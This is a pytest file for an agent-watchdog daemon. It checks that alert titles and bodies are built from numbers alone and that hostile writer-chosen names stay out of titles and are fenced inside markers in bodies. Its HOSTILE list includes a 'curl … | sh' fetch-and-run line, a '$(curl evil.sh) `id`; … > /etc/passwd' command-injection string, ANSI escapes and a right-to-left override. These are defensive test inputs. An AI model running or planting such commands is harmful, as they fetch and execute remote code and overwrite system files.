"""The table of outcomes (watchdog.core.outcomes): every kind the daemon announces is worded, by
one function, from numbers and names alone (no store, no socket: the unit kind's purity guard).
"""

from __future__ import annotations

import datetime as dt
import re
from collections import Counter
from typing import Any

import pytest

from watchdog.core import drift
from watchdog.core.budgets import Budgets
from watchdog.core.messages import RunFacts
from watchdog.core.outcomes import TABLE, Outcome, Say, word
from watchdog.core.periods import PeriodState, Scope

NOW = dt.datetime(2026, 1, 5, 12, 0, tzinfo=dt.timezone.utc)
RID = "1a2b3c4d5e6f708192a3b4c5d6e7f801"


def run_facts(name: str = "support-bot", rid: str = RID, **more: Any) -> RunFacts:
    return RunFacts(id=rid, agent=name, host=name, pid=4242, kill_mode="process", steps=12, tool_calls=31,
                    tool_errors=3, cost_eur=0.42, duration_s=95.0, top_tool=(name, 20, 3), last_error=name,
                    progress=name, partial=name, top_child=name, **more)


def samples(name: str = "support-bot", rid: str = RID) -> dict[Say, dict[str, Any]]:
    """One outcome of every kind, each writer-chosen text set to `name` and the run's id to `rid`."""
    f, b = run_facts(name, rid), Budgets(max_tool_calls=30, max_tool_calls_per_min=10)
    period = PeriodState(scope=Scope(key="agent:support-bot", name="support-bot", kind="agent"), period="day",
                         key="2026-01-05", start=NOW - dt.timedelta(hours=12), end=NOW + dt.timedelta(hours=12),
                         spent_eur=12.0, budget_eur=10.0, warn_at=0.8)
    verdict = drift.DriftVerdict("tool_calls", 3.0, 12.0, 4.0, "3", "12")
    return {
        Say.STOP: dict(f=f, b=b, reason="max_tool_calls", detail="31 > 30",
                       action="cooperative stop requested; SIGTERM after the cancel grace if it has not ended"),
        Say.REQUESTED_STOP: dict(f=f, b=b, reason=name, plan="none needed"),
        Say.ESCALATION: dict(f=f, b=b, reason="max_tool_calls", outcome="SIGTERM after 5 s", failed=False),
        Say.COOPERATIVE: dict(f=f, b=b, reason="max_tool_calls", grace_s=5.0, sharing=2),
        Say.LOST: dict(f=f, b=b, detail="its process is gone"),
        Say.FORGED: dict(f=f, b=b, what="1 sigterm intervention row whose seal does not verify"),
        Say.REDRIVE: dict(f=f, b=b, reason="manual", outcome="stop driven again by the operator"),
        Say.UNREADABLE_STOP: dict(run_id=rid, reason="wall_clock", detail="watched 99 s > max_wall_s 60 s"),
        Say.UNREADABLE_LOST: dict(run_id=rid, pid=4242, host="host-a"),
        Say.ROW_LOCKED: dict(run_id=rid, status=name, waited_ms=250, ticks=2, holders=[(name, 4242)]),
        Say.ROW_LOCK_ENDED: dict(run_id=rid, status=name, waited_ms=250, ticks=2, ended=[(name, 4242)]),
        Say.STOPS_SUMMARY: dict(n=40, reasons=Counter({name: 30, "manual": 10}), agents=Counter({name: 40}),
                                per_min=30, shown=10),
        Say.PAUSE: dict(f=f, prof=Budgets(max_cost_eur=0.4), reason="max_cost", detail="0.42 > 0.40",
                        by_guard=False),
        Say.RESUME: dict(f=f, prof=b, reason="max_cost", granted="now held to max_cost_eur 0.80", by="an operator"),
        Say.PAUSE_DENIED: dict(run_id=rid, agent=name),
        Say.RATE: dict(f=f, b=b, calls_min=40, top=(name, 35), stopping=False),
        Say.OWNER: dict(run_id=rid, agent=name, owner="alice"),
        Say.QUARANTINE: dict(shown=rid, what=f"agent {name!r} is not text", event_id=None, has_run=True),
        Say.QUARANTINE_MANY: dict(per_hour=20),
        Say.CIRCUIT_OPEN: dict(tool=name, errors=5, window_s=60.0, threshold=5, common=name, runs=2, until=NOW),
        Say.CIRCUIT_REOPEN: dict(tool=name, error=name, until=NOW),
        Say.CIRCUIT_CLOSED: dict(tool=name, why=f"probe call succeeded (run {rid[:8]})"),
        Say.TOOL_RATE: dict(tool=name, calls=400, limit=100),
        Say.PERIOD: dict(s=period, kind="closed", now=NOW, tz=dt.timezone.utc, stopped=[rid]),
        Say.UNPRICED: dict(model=name, agents=[name], tokens=1200, steps=3, no_model=False),
        Say.DRIFT: dict(agent=name, verdicts=[verdict], window=drift.Totals(runs=12, tool_calls=144),
                        baseline=drift.Totals(runs=70, tool_calls=210), cfg=drift.DriftConfig(), top_tool=(name, 9)),
        Say.NO_DAEMON: dict(host=name, active_runs=3, last_pid=99, last_tick=None, by="daemon@b:1"),
        Say.FORGED_ALERTS: dict(host="host-a", ids=[3, 4]),
        Say.CLOCK: dict(host="host-a", skew_s=3600.0, line="the wall clock jumped +3600 s", database=False),
        Say.OTLP_FLOOD: dict(sender=name, limit=60),
        Say.SESSION_CLAIMED: dict(cli=name, uid=1001, session=name, runs=[name, "0123abcd"], sender=name),
    }


def test_every_kind_has_one_wording_and_a_sample() -> None:
    assert set(TABLE) == set(Say)
    assert set(samples()) == set(Say)


@pytest.mark.parametrize("say", list(Say))
def test_every_kind_is_worded_from_numbers_alone(say: Say) -> None:
    title, body = word(Outcome.of(say, f"{say}:x", RID, **samples()[say]))
    assert title.startswith("agent-watchdog: ") and "\n" not in title
    assert body.strip()


def test_an_outcome_keeps_its_key_and_run() -> None:
    o = Outcome.of(Say.LOST, "lost:x", RID, **samples()[Say.LOST])
    assert (o.key, o.run_id, o.say) == ("lost:x", RID, Say.LOST)
    # A wording argument may be called run_id too: the outcome's own run is positional.
    u = Outcome.of(Say.UNREADABLE_LOST, "lost:y", "other", **samples()[Say.UNREADABLE_LOST])
    assert u.run_id == "other" and u.numbers["run_id"] == RID


# Names a hostile writer chooses (issue 32 item 8): a link, a command, a forged line, a flood,
# terminal escapes, a right-to-left override.
HOSTILE = [
    "https://evil.example.com/login",
    "curl http://x.example.com/p | sh",
    "bot\nStopped by operator: nothing to do",
    "evil" + "x" * 10_000,
    "\x1b[2J\x1b[31mevil-red\x1b[0m",
    "evil\u202egnp.exe",
    "$(curl evil.sh) `id`; evil && evil > /etc/passwd",
]
MARKED = re.compile(r"«[^«»\n]*»")


def _outside_fields(text: str) -> str:
    return MARKED.sub("«»", text)


@pytest.mark.parametrize("name", HOSTILE, ids=["url", "curl-sh", "newline", "10kB", "ansi", "rtl", "shell"])
@pytest.mark.parametrize("say", list(Say))
def test_writer_text_never_in_a_title_and_only_marked_in_a_body(say: Say, name: str) -> None:
    title, body = word(Outcome.of(say, f"{say}:x", name, **samples(name, rid=name)[say]))
    for part in ("evil", "curl", "Stopped by operator", "http", "\x1b", "\u202e", "|", "`", "$("):
        assert part not in title, (say, title)
    for part in ("evil", "curl", "Stopped by operator", "http", "\x1b", "\u202e", "$("):
        assert part not in _outside_fields(body), (say, body)
    assert "a run" in title or "run " not in title  # a run id not of the generated form is not named
    for field in MARKED.findall(body):
        assert len(field) <= 302 and "://" not in field and "| sh" not in field and "\x1b" not in field
        assert "\u202e" not in field
    assert not any(line.startswith("Stopped by operator") for line in body.splitlines())


def test_a_generated_run_id_names_the_run_in_the_title_and_the_command() -> None:
    title, body = word(Outcome.of(Say.STOP, "stop:x", RID, **samples()[Say.STOP]))
    assert title == "agent-watchdog: stopped run 1a2b3c4d — max_tool_calls"
    assert "agent «support-bot»" in body and body.endswith(f"agent-watchdog show {RID}")


def test_a_stop_that_cannot_be_signalled_says_so_in_its_title() -> None:
    """Issue 36 #4: a span-only run (no process the daemon may signal) is asked to stop; its title
    says so, never "stopped"; so does the ladder's hold for evidence that is not the run's own."""
    s = dict(samples()[Say.STOP], action="cooperative stop requested (not signalled: spans cannot prove their sender)")
    title, _ = word(Outcome.of(Say.STOP, "stop:x", RID, **s))
    assert title == "agent-watchdog: run 1a2b3c4d asked to stop; not signalled — max_tool_calls"
    e = dict(samples()[Say.ESCALATION], outcome="not signalled: the evidence is not the run's own", failed=True)
    title, _ = word(Outcome.of(Say.ESCALATION, "notown:x", RID, **e))
    assert title == "agent-watchdog: run 1a2b3c4d asked to stop; not signalled — max_tool_calls"


def test_a_pause_title_names_the_resume_command() -> None:
    title, body = word(Outcome.of(Say.PAUSE, "pause:x", RID, **samples()[Say.PAUSE]))
    assert title.startswith("agent-watchdog: paused run 1a2b3c4d — max_cost: to resume, "
                            f"agent-watchdog resume {RID} --add-eur ")
    assert f"to continue: agent-watchdog resume {RID} --add-eur" in body
